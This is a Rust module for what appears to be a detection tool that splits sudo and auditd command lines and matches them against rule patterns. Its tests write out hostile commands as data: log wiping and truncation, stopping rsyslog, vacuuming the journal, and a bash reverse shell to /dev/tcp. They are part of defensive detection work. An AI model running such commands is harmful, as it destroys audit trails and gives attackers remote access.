//! Command lines, as sudo and auditd write them, taken apart far enough to compare them with the lists of the rules.
//!
//! The text is hostile and its quoting is lost or doubled on the way through the log, so quotes and escapes are dropped
//! and every shell operator begins a new command. A pattern of a rule is a program name and words that must all occur;
//! `*` stands for any text, and a word that begins with `>` means a file that the output overwrites.

use smallvec::SmallVec;

/// Bytes of a command line that are looked at.
const LINE_MAX: usize = 4_096;
/// Commands of one line that are looked at.
const COMMANDS_MAX: usize = 32;
/// Words of one command that are looked at.
const WORDS_MAX: usize = 64;
/// Programs that only run another one.
const WRAPPERS: &[&str] = &[
    "sudo", "env", "nohup", "nice", "ionice", "time", "exec", "command", "xargs", "busybox", "setsid",
    "timeout",
];
/// Shells whose `-c` holds the real command.
const SHELLS: &[&str] = &["sh", "bash", "dash", "zsh", "ksh", "ash"];

/// The words of one command; the first is the program, with its path where the line gives one.
pub(crate) type Words = SmallVec<[String; 8]>;

/// The commands of a line, in order.
pub(crate) fn commands(line: &str) -> Vec<Words> {
    let mut out = Vec::new();
    let mut words = Words::new();
    for token in tokens(cut(line, LINE_MAX)) {
        match token {
            Token::Word(word) => {
                if words.len() < WORDS_MAX {
                    words.push(word);
                }
            }
            Token::End => finish(&mut words, &mut out),
        }
        if out.len() >= COMMANDS_MAX {
            return out;
        }
    }
    finish(&mut words, &mut out);
    out
}

enum Token {
    Word(String),
    End,
}

/// Splits at blanks and shell operators; `>` stays at the head of the word that names its file.
fn tokens(line: &str) -> Vec<Token> {
    let mut out = Vec::new();
    let mut word = String::new();
    let mut redirect = false;
    let mut escaped = false;
    for letter in line.chars() {
        let letter = if escaped && letter.is_whitespace() { ' ' } else { letter };
        escaped = false;
        match letter {
            '\\' => escaped = true,
            '\'' | '"' => {}
            ' ' | '\t' | '\n' if redirect && word.bytes().all(|byte| byte == b'>') => {}
            ' ' | '\t' | '\n' => {
                push(&mut word, &mut out);
                redirect = false;
            }
            // `>&` sends both outputs to the file that follows.
            '&' if redirect && word == ">" => {}
            ';' | '|' | '&' | '`' | '(' | ')' | '{' | '}' => {
                push(&mut word, &mut out);
                redirect = false;
                out.push(Token::End);
            }
            '>' if !redirect => {
                // A number before it is the file descriptor.
                if word.bytes().all(|byte| byte.is_ascii_digit()) {
                    word.clear();
                }
                push(&mut word, &mut out);
                word.push('>');
                redirect = true;
            }
            _ => word.push(letter),
        }
    }
    push(&mut word, &mut out);
    out
}

fn push(word: &mut String, out: &mut Vec<Token>) {
    if !word.is_empty() {
        out.push(Token::Word(std::mem::take(word)));
    }
}

/// Drops assignments, wrappers and `shell -c` in front of the real program.
fn finish(words: &mut Words, out: &mut Vec<Words>) {
    let mut rest = std::mem::take(words);
    loop {
        let Some(first) = rest.first() else { return };
        let program = base(first).to_owned();
        let assignment = first.split_once('=').is_some_and(|(name, _)| {
            !name.is_empty() && name.bytes().all(|byte| byte.is_ascii_alphanumeric() || byte == b'_')
        });
        if assignment && rest.len() > 1 {
            rest.remove(0);
        } else if WRAPPERS.contains(&program.as_str()) && rest.len() > 1 {
            rest.remove(0);
            while rest.first().is_some_and(|word| word.starts_with('-')) && rest.len() > 1 {
                rest.remove(0);
            }
        } else if SHELLS.contains(&program.as_str()) && rest.get(1).is_some_and(|flag| is_command_flag(flag))
        {
            rest.drain(..2);
        } else {
            out.push(rest);
            return;
        }
    }
}

fn is_command_flag(flag: &str) -> bool {
    flag.strip_prefix('-').is_some_and(|letters| letters.ends_with('c') && letters.len() <= 4)
}

fn base(path: &str) -> &str {
    path.rsplit('/').next().unwrap_or(path)
}

/// At most `max` bytes of a text, cut at a letter.
pub(crate) fn cut(text: &str, max: usize) -> &str {
    let mut end = text.len().min(max);
    while !text.is_char_boundary(end) {
        end -= 1;
    }
    text.get(..end).unwrap_or_default()
}

/// A pattern of a rule: words that must all occur, the first as the program's name, or as its path when it holds a slash.
#[derive(Clone, Debug)]
pub(crate) struct Pattern {
    words: Vec<String>,
}

impl Pattern {
    /// Reads a pattern; words are separated by blanks.
    pub(crate) fn new(text: &str) -> Self {
        Self { words: text.split_whitespace().map(str::to_owned).collect() }
    }

    /// Does the command fit? Gives the last word that fitted: mostly the file or the unit.
    pub(crate) fn fits<'a>(&self, command: &'a [String]) -> Option<&'a str> {
        let (program, words) = self.words.split_first()?;
        let redirect = program.starts_with('>');
        if redirect {
            return command.iter().find(|word| glob(program, word)).map(|word| word.trim_start_matches('>'));
        }
        let (first, rest) = command.split_first()?;
        let name = if program.contains('/') { first.as_str() } else { base(first) };
        if !glob(program, name) {
            return None;
        }
        let mut last = first.as_str();
        for word in words {
            last = rest.iter().find(|own| glob(word, own))?;
        }
        Some(last.trim_start_matches('>'))
    }
}

/// Matches a text with a pattern in which `*` stands for any text. Linear in the product of both lengths at worst.
pub(crate) fn glob(pattern: &str, text: &str) -> bool {
    let mut parts = pattern.split('*');
    let Some(rest) = parts.next().and_then(|head| text.strip_prefix(head)) else { return false };
    if !pattern.contains('*') {
        return rest.is_empty();
    }
    let mut rest = rest;
    let mut last = "";
    for part in parts {
        last = part;
        match rest.find(part) {
            Some(at) => rest = rest.get(at + part.len()..).unwrap_or_default(),
            None => return false,
        }
    }
    last.is_empty() || text.ends_with(last)
}

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::*;

    fn fits(pattern: &str, line: &str) -> bool {
        let pattern = Pattern::new(pattern);
        commands(line).iter().any(|command| pattern.fits(command).is_some())
    }

    #[test]
    fn wrappers_shells_and_operators_hide_nothing() {
        assert!(fits("rm /var/log/*", "/usr/bin/rm -f /var/log/auth.log"));
        assert!(fits("rm /var/log/*", "/bin/bash -c rm\\ -rf\\ /var/log/nginx"));
        assert!(fits("rm /var/log/*", "/usr/bin/env LANG=C sh -c 'cd /tmp; rm /var/log/wtmp'"));
        assert!(fits("rm /var/log/*", "apt update && rm /var/log/syslog"));
        assert!(fits(">/var/log/*", "sh -c cat /dev/null > /var/log/auth.log"));
        assert!(fits(">/var/log/*", "bash -c ': 1>/var/log/auth.log'"));
        assert!(fits("systemctl stop rsyslog*", "/usr/bin/systemctl stop rsyslog.service"));
        assert!(fits("journalctl --vacuum-*", "journalctl --vacuum-time=1s"));
        assert!(fits(">*/dev/tcp/*", "bash -c 'bash -i >& /dev/tcp/192.0.2.1/99 0>&1'"));
        assert!(
            fits("/tmp/*", "/tmp/.x/run") && !fits("/tmp/*", "/usr/bin/ls /tmp/x") && !fits("/tmp/*", "run")
        );
    }

    #[test]
    fn near_misses_stay_quiet() {
        assert!(!fits("rm /var/log/*", "rm /var/lib/logs/x"));
        assert!(!fits("rm /var/log/*", "ls /var/log/auth.log"));
        assert!(!fits("rm /var/log/*", "grep rm /var/log/auth.log"));
        assert!(!fits(">/var/log/*", "sh -c echo x >> /var/log/own.log"));
        assert!(!fits("systemctl stop rsyslog*", "systemctl restart rsyslog"));
    }

    #[test]
    fn globs_match_whole_texts() {
        assert!(glob("a*c", "abc") && glob("*", "") && glob("a*", "a") && !glob("a*c", "abcd"));
        assert!(glob("*a*", "bab") && !glob("ab", "abc") && !glob("ab*b", "ab"));
    }

    proptest! {
        #[test]
        fn any_text_is_taken(line in ".{0,300}", pattern in "[a-z*> /]{0,20}") {
            let pattern = Pattern::new(&pattern);
            for command in commands(&line) {
                prop_assert!(!command.is_empty());
                let _ = pattern.fits(&command);
            }
        }
    }
}
